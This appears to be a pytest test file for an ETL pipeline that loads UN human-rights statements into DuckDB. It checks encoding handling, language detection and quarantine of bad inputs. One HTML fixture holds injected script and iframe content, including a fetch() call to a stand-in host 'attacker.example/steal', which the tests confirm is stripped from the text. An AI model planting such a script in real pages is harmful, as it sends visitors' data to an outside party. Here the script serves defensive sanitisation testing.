"""The bad-input corpus: every file either loads correctly or lands in quarantine with a
specific reason, and the run completes with the good documents loaded."""

from __future__ import annotations

import codecs
from datetime import date, datetime
from pathlib import Path

import duckdb
import pytest

from un_statements_etl.pipeline import run_pipeline
from un_statements_etl.settings import load_settings

STATEMENT = """Myanmar: UN expert alarmed by air strikes on villages in Sagaing

GENEVA (14 March 2023) – A UN human rights expert today said he was alarmed by repeated air strikes on
villages in the Sagaing region and urged the military authorities to stop attacking civilians.

"Those responsible for these attacks must be held accountable," the expert said. He called on Member
States to stop the flow of aviation fuel to the military.
"""

FRENCH = """Le Haut-Commissaire salue la libération des défenseurs des droits de l'homme

GENÈVE (3 avril 2023) – Le Haut-Commissaire des Nations Unies aux droits de l'homme a salué aujourd'hui la
libération de plusieurs défenseurs des droits de l'homme et a appelé les autorités à poursuivre dans cette voie.
"""

SPANISH = """El Alto Comisionado acoge con satisfacción la nueva ley de protección de periodistas

GINEBRA (5 de mayo de 2023) – El Alto Comisionado de las Naciones Unidas para los Derechos Humanos acogió hoy con
satisfacción la aprobación de una nueva ley para la protección de los periodistas y los defensores.
"""

CHINESE = """联合国人权事务高级专员欢迎释放人权捍卫者

日内瓦（2023年4月3日）— 联合国人权事务高级专员今天对释放多名人权捍卫者表示欢迎，并呼吁当局继续采取措施保护公民社会的空间。
"""

ARABIC = """المفوض السامي يرحب بالإفراج عن المدافعين عن حقوق الإنسان

جنيف (3 نيسان/أبريل 2023) – رحب مفوض الأمم المتحدة السامي لحقوق الإنسان اليوم بالإفراج عن عدد من المدافعين عن حقوق الإنسان ودعا السلطات إلى مواصلة هذه الخطوات.
"""

HTML = """<!doctype html><html><head><title>Sudan: spokesperson briefing</title>
<meta property="og:url" content="https://www.ohchr.org/en/press-briefing-notes/2023/06/sudan-briefing">
<meta property="article:published_time" content="2023-06-09T10:00:00+02:00">
<style>body { color: red } .evil::after { content: "INJECTED STYLE TEXT" }</style>
<script>document.write("INJECTED SCRIPT TEXT"); fetch("https://attacker.example/steal")</script></head>
<body><nav>Skip to main content</nav><iframe src="https://attacker.example/frame">INJECTED FRAME TEXT</iframe>
<article><h1>Sudan: spokesperson briefing</h1>
<p>Spokesperson for the UN High Commissioner for Human Rights: Ravina Shamdasani</p>
<p>We are deeply concerned about the escalating violence in Darfur, where civilians continue to be killed
in their homes. We call on the parties to the conflict to allow humanitarian access to all areas.</p>
<p>The High Commissioner urges both sides to return to negotiations and to protect civilians.</p>
</article><footer>Contact us</footer></body></html>"""

BOILERPLATE = """Skip to main content
Search
Home
About us
Contact
Share
English
Français
Español
"""


@pytest.fixture(scope="module")
def corpus_run(tmp_path_factory):
    inbox = tmp_path_factory.mktemp("inbox")
    files = {
        "utf16.txt": codecs.BOM_UTF16_LE + STATEMENT.encode("utf-16-le"),
        "latin1.txt": STATEMENT.replace("–", "-").replace('"', "'").replace("Sagaing", "Sagaïng").encode("latin-1"),
        "cp1252.txt": STATEMENT.replace("Myanmar", "Myanmar’s crisis").encode("cp1252"),
        "crlf-mixed.txt": STATEMENT.replace("\n", "\r\n", 3).replace("Sagaing", "Sagaing region").encode(),
        "no-date-no-title.txt": (b"A UN human rights expert said he was alarmed by the attacks on journalists and "
                                 b"called on the authorities to release them without delay.\n"),
        "french.txt": FRENCH.encode(), "spanish.txt": SPANISH.encode(),
        "chinese.txt": CHINESE.encode(), "arabic.txt": ARABIC.encode(),
        "page.html": HTML.encode(),
        "truncated.html": HTML[: HTML.index("The High Commissioner")].encode(),
        "boilerplate.txt": BOILERPLATE.encode(),
        "too-large.txt": b"The High Commissioner said. " * 200_000,  # 5.6 MB > max_document_bytes (5 MB)
        "empty.txt": b"",
        "scan.pdf": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
        # NUL bytes past the first 4 KB (where the binary sniffer looks)
        "nul-late.txt": (STATEMENT + "The expert called for an inquiry. " * 150 + "Civilians\x00 fled.").encode(),
    }
    for name, content in files.items():
        (inbox / name).write_bytes(content)
    (inbox / "dangling.txt").symlink_to(inbox / "moved-away.txt")
    out = tmp_path_factory.mktemp("out")
    summary = run_pipeline(load_settings(env={}, data_dir=out, inputs=(inbox,)), today=date(2026, 11, 28))
    con = duckdb.connect(str(out / "un_statements.duckdb"), read_only=True)
    yield summary, con
    con.close()


def by_file(con, sql: str) -> dict[str, tuple]:
    return {Path(row[0]).name: row[1:] for row in con.execute(sql).fetchall()}


def test_bad_files_are_quarantined_with_specific_reasons(corpus_run):
    _, con = corpus_run
    reasons = {name: r[0] for name, r in by_file(con, "SELECT source_uri, reason FROM quarantine").items()}
    # truncated.html is another version of page.html (same canonical URL and date): set aside, never merged silently
    assert reasons == {"too-large.txt": "too_large", "empty.txt": "empty", "scan.pdf": "binary",
                       "boilerplate.txt": "empty", "truncated.html": "conflict", "dangling.txt": "unreadable"}


def test_nul_bytes_anywhere_reach_neither_the_warehouse_nor_parquet(corpus_run):
    summary, con = corpus_run
    text = by_file(con, "SELECT source_uri, text FROM statements")["nul-late.txt"][0]
    assert "Civilians fled." in text
    assert con.execute("SELECT count(*) FROM statements WHERE contains(text, chr(0))").fetchone() == (0,)
    parquet = Path(summary.outputs["duckdb"]).parent / "parquet" / "statements"
    with duckdb.connect() as scratch:  # its own connection: another test's open result cannot get in the way
        texts = [t for (t,) in scratch.sql(f"SELECT text FROM read_parquet('{parquet}/**/*.parquet')").fetchall()]
    assert any("Civilians fled." in t for t in texts) and not any("\x00" in t for t in texts)


def test_every_encoding_loads_as_the_same_text(corpus_run):
    _, con = corpus_run
    rows = by_file(con, "SELECT source_uri, text, published_on, location FROM statements")
    for name in ("utf16.txt", "cp1252.txt", "crlf-mixed.txt"):
        text, published, location = rows[name]
        assert "air strikes on villages" in text and "\r" not in text and "\ufeff" not in text, name
        assert published == date(2023, 3, 14) and location == "Geneva", name
    assert "Sagaïng" in rows["latin1.txt"][0]
    assert "Myanmar's crisis" in rows["cp1252.txt"][0]


def test_non_english_statements_load_with_their_language_and_no_english_rows(corpus_run):
    summary, con = corpus_run
    langs = {name: r[0] for name, r in by_file(con, "SELECT source_uri, language FROM statements").items()}
    assert {langs[n] for n in ("french.txt", "spanish.txt", "chinese.txt", "arabic.txt")} == {"fr", "es", "zh", "ar"}
    assert con.execute("SELECT count(*) FROM entities e JOIN statements s USING (statement_id) "
                       "WHERE s.language <> 'en'").fetchone() == (0,)
    assert summary.counts["not_english"] == 4


def test_statement_without_date_or_title_loads_with_nulls(corpus_run):
    _, con = corpus_run
    title, published = by_file(con, "SELECT source_uri, title, published_on FROM statements")["no-date-no-title.txt"]
    assert published is None
    assert by_file(con, "SELECT source_uri, year FROM statements")["no-date-no-title.txt"] == (None,)
    assert title is None or "alarmed" in title


def test_html_scripts_styles_and_frames_never_reach_the_text(corpus_run):
    _, con = corpus_run
    rows = by_file(con, "SELECT source_uri, text, url, published_on FROM statements")
    text, url, published = rows["page.html"]
    assert "Darfur" in text and "INJECTED" not in text and "attacker" not in text
    assert url == "https://www.ohchr.org/en/press-briefing-notes/2023/06/sudan-briefing"
    assert published == date(2023, 6, 9)


def test_truncated_html_loads_what_it_has(corpus_run):
    from un_statements_etl.ingest import prepare_statement
    from un_statements_etl.records import RawDocument

    truncated = HTML[: HTML.index("The High Commissioner")].encode()
    alone = prepare_statement(RawDocument("local", "truncated.html", truncated, "text/html", datetime(2026, 11, 28)),
                              5_000_000)
    assert "escalating violence in Darfur" in alone.text and "negotiations" not in alone.text
    # beside the complete page.html (same canonical URL, same date) the first version is kept, this one set aside
    _, con = corpus_run
    [(detail,)] = con.execute("SELECT detail FROM quarantine WHERE source_uri LIKE '%truncated.html'").fetchall()
    assert "page.html" in detail and "was kept" in detail
